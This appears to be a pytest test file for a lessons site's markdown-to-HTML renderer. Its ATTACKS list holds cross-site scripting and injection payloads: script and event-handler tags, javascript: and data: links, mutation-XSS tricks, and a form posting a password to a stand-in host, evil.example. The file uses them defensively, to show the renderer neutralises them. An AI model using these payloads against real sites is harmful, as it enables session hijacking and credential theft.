"""Markdown that authors write becomes HTML that cannot hurt a reader."""

from __future__ import annotations

from collections.abc import Callable
from html.parser import HTMLParser

import pytest

from lessons.content import rendering


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        pytest.param("# Title", '<h2 id="section-title">Title</h2>\n', id="a title is a second-level heading"),
        pytest.param(
            "### Two *words*!", '<h3 id="section-two-words">Two <em>words</em>!</h3>\n', id="headings have ids"
        ),
        pytest.param("`10.0.0.1`", "<p><code>10.0.0.1</code></p>\n", id="code"),
        pytest.param(
            "To `eth0`, then (`cni0`).",
            '<p>To <span class="whole"><code>eth0</code>,</span> '
            'then <span class="whole">(<code>cni0</code>).</span></p>\n',
            id="no line breaks between code and what touches it",
        ),
        pytest.param(
            "```yaml\na: 1\n```",
            '<pre tabindex="0"><code class="language-yaml">a: 1\n</code></pre>\n',
            id="code blocks can be scrolled by keyboard",
        ),
        pytest.param(
            "| a | b |\n|---|--:|\n| 1 | 2 |",
            '<table tabindex="0">\n<thead>\n<tr>\n<th>a</th>\n<th class="align-right">b</th>\n</tr>\n</thead>\n'
            '<tbody>\n<tr>\n<td>1</td>\n<td class="align-right">2</td>\n</tr>\n</tbody>\n</table>\n',
            id="tables align by class, not by style",
        ),
        pytest.param(
            "[docs](https://kubernetes.io)",
            '<p><a href="https://kubernetes.io" rel="noopener noreferrer">docs</a></p>\n',
            id="links",
        ),
    ],
)
def test_markdown_is_rendered(markdown: str, html: str) -> None:
    assert rendering.html(markdown) == html


class Page(HTMLParser):
    """Collects everything in a page that could act: elements, attributes and addresses that are not plain text."""

    ACTIVE_ATTRIBUTES = ("on", "hx-", "style", "formaction", "srcdoc")
    PLAIN = frozenset(
        {
            *("a", "abbr", "blockquote", "br", "code", "del", "em", "h2", "h3", "h4", "hr", "img", "kbd", "li", "ol"),
            *("p", "pre", "s", "strong", "sub", "sup", "ul"),
        }
    )

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in self.PLAIN:
            self.active.append(tag)
        for name, value in attributes:
            if name.startswith(self.ACTIVE_ATTRIBUTES):
                self.active.append(f"{tag} {name}")
            if name in ("href", "src") and not str(value).startswith(("https:", "http:", "/static/", "#", "%22")):
                self.active.append(f"{tag} {name}={value}")
            if name == "src" and "evil" in str(value):
                self.active.append(f"{tag} {name}={value}")


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1)',
    "<style>body{display:none}</style>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    "<div hx-get='/admin/' hx-trigger='load'>x</div>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '```"><script>alert(1)</script>\nx\n```',
    "# x {onclick=alert(1)}",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<!--><img src=x onerror=alert(1)>-->",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("render", [rendering.html, rendering.inline_html], ids=["blocks", "inline"])
def test_no_attack_leaves_active_content(render: Callable[[str], str], attack: str) -> None:
    page = Page()
    page.feed(render(attack))
    assert page.active == []


def test_an_attack_in_a_list_of_experiments_is_text() -> None:
    assert rendering.blocks("::experiment[<script>]") == (rendering.Text("<p>::experiment[&lt;script&gt;]</p>\n"),)


def test_experiments_cut_the_body_into_blocks() -> None:
    blocks = rendering.blocks("before\n::experiment[one]\nbetween\n\n::experiment[two]\n")
    assert blocks == (
        rendering.Text("<p>before</p>\n"),
        rendering.Place("experiment", "one"),
        rendering.Text("<p>between</p>\n"),
        rendering.Place("experiment", "two"),
    )


@pytest.mark.parametrize(
    ("line", "place"),
    [
        ("::experiment[one]", rendering.Place("experiment", "one")),
        ("::trace[the-way-back]", rendering.Place("trace", "the-way-back")),
        ("::playground  ", rendering.Place("playground")),
    ],
)
def test_a_line_places_what_it_names(line: str, place: rendering.Place) -> None:
    assert rendering.blocks(line) == (place,)


@pytest.mark.parametrize("line", ["::quiz[one]", "::trace", "::trace[]", "::playground[one]"])
def test_a_line_that_names_no_place_is_text(line: str) -> None:
    (block,) = rendering.blocks(line)
    assert isinstance(block, rendering.Text)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param("```\n::experiment[one]\n```", id="in a code block"),
        pytest.param("    ::experiment[one]", id="indented as code"),
        pytest.param("> ::experiment[one]", id="in a quotation"),
        pytest.param("see ::experiment[one] above", id="in the middle of a line"),
    ],
)
def test_only_a_line_of_its_own_places_an_experiment(body: str) -> None:
    (block,) = rendering.blocks(body)
    assert isinstance(block, rendering.Text)
    assert "::experiment[one]" in block.html
